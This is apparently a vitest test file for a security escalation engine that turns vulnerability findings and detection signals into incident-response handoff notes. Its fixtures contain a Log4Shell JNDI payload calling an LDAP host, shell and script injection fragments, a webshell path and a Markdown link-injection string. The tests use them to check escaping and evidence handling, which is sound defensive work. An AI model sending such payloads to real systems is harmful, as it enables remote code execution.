import { describe, expect, it } from 'vitest';
import { evaluate } from '../../../src/domain/escalation/engine.js';
import { DECISIONS_BY_TRIGGER, buildHandoffNote, handoffSeverity } from '../../../src/domain/escalation/handoff.js';
import type { HandoffContext } from '../../../src/domain/escalation/handoff.js';
import { loadDefaultRuleset } from '../../../src/config/ruleset-file.js';
import { TRIGGERS } from '../../../src/domain/escalation/vocabulary.js';
import type { Trigger } from '../../../src/domain/escalation/vocabulary.js';
import { isClError } from '../../../src/errors.js';
import { CVE, KEV, scenario } from './builders.js';
import type { Scenario } from './builders.js';

const ruleset = loadDefaultRuleset();
const now = new Date('2026-11-02T12:00:00Z');

function context(s: Scenario, extra: Partial<HandoffContext> = {}): HandoffContext {
  const input = scenario(s);
  const decision = evaluate(input, ruleset);
  return {
    decision,
    finding: input.finding,
    asset: input.asset,
    vulnerability: input.vulnerability,
    signals: input.signals,
    advisories: input.advisories,
    ruleset,
    now,
    ...extra,
  };
}

const exploited: Scenario = {
  asset: { name: 'Checkout API', service: 'checkout', owner: 'payments-team', exposure: 'internet', regulated: ['pci'] },
  vulnerability: {
    ...KEV,
    title: 'Log4Shell',
    cvss: { base_score: 10, vector: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:C/C:H/I:H/A:H' },
    fix_available: true,
  },
  finding: { component: 'log4j-core', version: '2.14.1', source: 'trivy', validation: 'validated' },
  signals: [
    {
      id: 'waf-881',
      kind: 'exploit_attempt',
      vulnerability: CVE,
      source: 'waf',
      alert: 'WAF-LOG4J-01',
      indicator: '203.0.113.7',
      payload: '${jndi:ldap://203.0.113.7/a} `x` | <script>',
      confidence: 'high',
    },
    { id: 'edr-12', kind: 'webshell', source: 'edr', indicator: '/opt/app/shell.jsp', confidence: 'medium' },
    { id: 'other-host', kind: 'webshell', asset: 'asset-2' },
  ],
};

describe('buildHandoffNote', () => {
  const { json, markdown } = buildHandoffNote(context(exploited));

  it('carries every field of the seed 002 template', () => {
    expect(Object.keys(json)).toEqual([
      'finding',
      'triggers',
      'trigger_details',
      'advisory',
      'affected_scope',
      'evidence',
      'evidence_refs',
      'current_action',
      'decision_needed',
      'known_uncertainty',
      'requested_response',
      'recommended_route',
      'ssvc',
      'ruleset',
      'generated_at',
    ]);
    expect(json.triggers).toEqual(['observed_exploitation', 'confirmed_compromise', 'dangerous_exposure', 'regulated_impact']);
    expect(json.advisory).toMatchObject({ id: CVE, title: 'Log4Shell', fix_available: true });
    expect(json.advisory.sources).toEqual(['CISA KEV (added 2021-12-10)', 'scanner: trivy']);
    expect(json.affected_scope).toEqual({
      asset_group: null,
      asset: { id: 'asset-1', name: 'Checkout API', in_inventory: true },
      product: 'log4j-core',
      version: '2.14.1',
      business_service: 'checkout',
      owner: 'payments-team',
      exposure: 'internet',
      third_party: null,
      unresolved_asset_groups: [],
    });
  });

  it('lists the observed evidence of this asset only', () => {
    expect(json.evidence).toEqual([
      {
        signal: 'waf-881',
        log_source: 'waf',
        alert: 'WAF-LOG4J-01',
        timestamp: '2026-11-02T10:00:00Z',
        indicator: '203.0.113.7',
        payload: '${jndi:ldap://203.0.113.7/a} `x` | <script>',
        behaviour: 'exploit attempt',
        confidence: 'high',
      },
      {
        signal: 'edr-12',
        log_source: 'edr',
        alert: null,
        timestamp: '2026-11-02T10:00:00Z',
        indicator: '/opt/app/shell.jsp',
        payload: null,
        behaviour: 'webshell',
        confidence: 'medium',
      },
    ]);
  });

  it('asks for the decisions the triggers need', () => {
    expect(json.decision_needed).toEqual(['containment', 'hunt', 'forensic_triage', 'emergency_change', 'leadership_legal_comms']);
  });

  it('requests a response time from the severity policy and the injected clock', () => {
    expect(json.requested_response).toEqual({ severity: 'critical', within: '1h', by: '2026-11-02T13:00:00.000Z' });
    expect(json.generated_at).toBe('2026-11-02T12:00:00.000Z');
  });

  it('recommends the seed 002 route', () => {
    expect(json.recommended_route).toHaveLength(4);
    expect(json.recommended_route[0]).toMatch(/^Validate the trigger: confirm signal\(s\) waf-881, edr-12/);
    expect(json.recommended_route[1]).toMatch(/^Send this handoff to IR/);
    expect(json.recommended_route[2]).toMatch(/^Start a SOC hunt on asset-1 and service checkout/);
    expect(json.recommended_route[3]).toMatch(/^Keep patch\/mitigation moving in parallel .*VR remediation stays open/);
  });

  it('derives the current action from the next actions', () => {
    expect(json.current_action).toEqual(['patching (the VR remediation item stays open)', 'mitigation', 'monitoring']);
    const given = buildHandoffNote(context(exploited, { current_action: ['emergency WAF rule deployed'] }));
    expect(given.json.current_action).toEqual(['emergency WAF rule deployed']);
  });

  it('renders Markdown with every template heading', () => {
    for (const heading of [
      '**IR escalation trigger:**',
      '**CVE/advisory:**',
      '**Affected scope:**',
      '**Evidence observed:**',
      '**Current action:**',
      '**Decision needed:** containment / hunt / forensic triage / emergency change / leadership/legal/comms',
      '**Known uncertainty:**',
      '**Requested response time:** within 1h (by 2026-11-02T13:00:00.000Z)',
      '**Recommended route:**',
    ]) {
      expect(markdown).toContain(heading);
    }
  });

  it('shows attacker-controlled payloads as inert code spans', () => {
    expect(markdown).toContain('payload `` ${jndi:ldap://203.0.113.7/a} `x` | <script> ``');
    expect(markdown.split('<script>')).toHaveLength(2);
  });

  it('escapes Markdown in record text', () => {
    const note = buildHandoffNote(context({ ...exploited, asset: { ...exploited.asset, name: '[click](http://evil) *x*' } }));
    expect(note.markdown).toContain('\\[click\\](http://evil) \\*x\\*');
  });

  it('lists known uncertainty: scope, telemetry, vendor and owner gaps', () => {
    const note = buildHandoffNote(
      context(
        {
          asset: { business_critical: true, telemetry: false, third_party: 'acme-msp' },
          vulnerability: { ...KEV, fix_available: false },
          finding: { affected_version_known: false, vendor_scope_known: false },
        },
        { unresolved_asset_groups: ['k8s-prod-nodes'] },
      ),
    );
    expect(note.json.triggers).toEqual(['scope_unknown']);
    expect(note.json.known_uncertainty).toEqual([
      { kind: 'scope', detail: 'finding not validated: product, version and feature state unconfirmed' },
      { kind: 'scope', detail: 'reachability of the vulnerable path unknown' },
      { kind: 'scope', detail: 'cannot tell whether the installed version is affected' },
      { kind: 'scope', detail: 'unresolved asset group: k8s-prod-nodes' },
      { kind: 'telemetry', detail: 'no usable telemetry on asset-1: absence of signals proves nothing' },
      { kind: 'vendor', detail: 'vendor has not said which products/versions are affected' },
      { kind: 'vendor', detail: 'no fix available from the vendor' },
      { kind: 'vendor', detail: 'managed by third party acme-msp: vendor support may be needed' },
      { kind: 'owner', detail: 'asset asset-1 has no owner' },
    ]);
    expect(note.json.requested_response).toMatchObject({ severity: 'moderate', within: '24h' });
    expect(note.json.current_action).toContain('vendor case with acme-msp');
    expect(note.markdown).toContain('owner: none (owner gap)');
  });

  it('handles an asset that is not in the inventory', () => {
    const note = buildHandoffNote(context({ asset: null, signals: [{ kind: 'webshell' }] }));
    expect(note.json.affected_scope.asset).toEqual({ id: 'asset-1', name: null, in_inventory: false });
    expect(note.json.known_uncertainty[0]).toEqual({ kind: 'scope', detail: 'asset asset-1 is not in the inventory' });
    expect(note.markdown).toContain('not in the inventory');
  });

  it('says a provisional asset (a report target the inventory does not name) has no known owner or exposure', () => {
    const input = context({ asset: { exposure: 'unknown' }, signals: [{ kind: 'webshell' }] });
    const asset = input.asset === null ? null : { ...input.asset, not_in_inventory: true };
    const note = buildHandoffNote({ ...input, asset });
    expect(note.json.affected_scope.asset).toEqual({ id: 'asset-1', name: null, in_inventory: false });
    expect(note.json.affected_scope.exposure).toBe('unknown');
    expect(note.json.known_uncertainty).toContainEqual({ kind: 'scope', detail: 'asset not in inventory: owner and exposure unknown (asset-1)' });
    // the owner gap is that line, not a second one
    expect(note.json.known_uncertainty.filter((u) => u.kind === 'owner')).toEqual([]);
    expect(note.markdown).toContain('asset not in inventory: owner and exposure unknown');
  });

  it('names the scanner vantage point of a remote check, and the address that set a provisional host\'s exposure', () => {
    const input = context({ asset: { exposure: 'internet' }, vulnerability: KEV, finding: { check: 'remote' } });
    const asset = input.asset === null ? null : { ...input.asset, not_in_inventory: true, extra: { exposure_basis: 'address 12.233.108.201 is globally routable' } };
    const finding = { ...input.finding, extra: { vantage_point: 'Nessus scanner 10.0.0.5 (policy "External")' } };
    const note = buildHandoffNote({ ...input, asset, finding });
    expect(note.json.known_uncertainty).toContainEqual({
      kind: 'scope',
      detail: 'reachable from the scanner (remote network check from Nessus scanner 10.0.0.5 (policy "External")); reachability from elsewhere not assessed',
    });
    expect(note.json.known_uncertainty).toContainEqual({
      kind: 'scope',
      detail: "asset not in inventory: owner unknown; exposure internet from the scanner's view (address 12.233.108.201 is globally routable) (asset-1)",
    });
    expect(note.markdown).toContain('Nessus scanner 10.0.0.5');
  });

  it('never reads exposure unknown as internet-facing', () => {
    const unknown = context({ asset: { exposure: 'unknown' }, vulnerability: KEV, finding: { validation: 'validated' } });
    expect(unknown.decision.triggers).not.toContain('dangerous_exposure');
    const internet = context({ asset: { exposure: 'internet' }, vulnerability: KEV, finding: { validation: 'validated' } });
    expect(internet.decision.triggers).toContain('dangerous_exposure');
  });

  it('refuses a stay decision', () => {
    let caught: unknown;
    try {
      buildHandoffNote(context({}));
    } catch (err) {
      caught = err;
    }
    expect(isClError(caught) && caught.code === 'CL_RULE_REFUSED').toBe(true);
  });

  it('is pure: same context, same note', () => {
    const ctx = context(exploited);
    expect(buildHandoffNote(ctx)).toEqual(buildHandoffNote(ctx));
  });
});

describe('trigger → decision needed and severity', () => {
  const rows: Array<[Trigger, string[], string]> = [
    ['observed_exploitation', ['containment', 'hunt'], 'high'],
    ['confirmed_compromise', ['containment', 'forensic_triage', 'hunt'], 'critical'],
    ['dangerous_exposure', ['emergency_change', 'hunt'], 'high'],
    ['containment_needed', ['containment', 'emergency_change'], 'high'],
    ['scope_unknown', ['hunt'], 'moderate'],
    ['regulated_impact', ['leadership_legal_comms'], 'high'],
  ];
  it('covers every trigger', () => {
    expect(rows.map(([t]) => t)).toEqual([...TRIGGERS]);
  });
  it.each(rows)('%s → %j, %s', (trigger, decisions, severity) => {
    expect(DECISIONS_BY_TRIGGER[trigger]).toEqual(decisions);
    expect(handoffSeverity([trigger], ruleset)).toBe(severity);
  });
  it('takes the highest severity over the triggers', () => {
    expect(handoffSeverity(['scope_unknown', 'confirmed_compromise'], ruleset)).toBe('critical');
    expect(handoffSeverity([], ruleset)).toBe('low');
  });
});
